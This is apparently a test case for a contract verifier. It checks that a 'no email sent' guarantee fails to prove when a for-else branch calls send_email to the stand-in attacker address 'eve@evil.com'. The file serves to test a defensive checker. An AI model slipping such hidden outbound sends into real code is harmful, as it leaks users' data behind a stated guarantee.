# not proved: the else of a loop without break runs
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    for x in [1]:
        log("x")
    else:
        send_email("eve@evil.com", "x")
